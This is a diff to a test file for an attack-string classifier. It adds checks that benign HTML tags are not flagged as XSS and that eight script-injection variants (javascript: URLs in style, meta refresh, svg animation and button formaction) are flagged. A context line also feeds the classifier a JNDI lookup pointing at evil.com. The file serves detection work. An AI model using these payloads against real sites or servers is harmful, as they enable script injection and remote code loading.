@@ -184,3 +184,18 @@ describe("URL-valued headers (Referer)", () => {
     expect(urlHeader("${jndi:ldap://evil.com/a}")).toBe(AttackClass.Jndi);
   });
 });
+
+describe("ordinary markup tags (audit of issue #3)", () => {
+  it("<meta charset>, <link rel=stylesheet>, CSS in <style>, a search <form>, an <svg> icon are not XSS", () => {
+    const benign: StaticArray<string> = ["<meta charset=\"utf-8\">", "<link rel=\"stylesheet\" href=\"/css/site.css\">", "<style>.x { color: red; }</style>",
+      "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>", "<svg width=\"24\" height=\"24\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5z\"/></svg>"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
+  });
+  it("the same tags with a script vector are", () => {
+    const attacks: StaticArray<string> = ["<style>@import 'javascript:alert(1)';</style>", "<style>*{background:url(\"javascript:alert(1)\")}</style>",
+      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=import href=\"data:text/html,x\">",
+      "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>",
+      "<form><button formaction=javascript:alert(1)>X</button>", "<style>body{behavior:url(x.htc)}</style>"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
+  });
+});
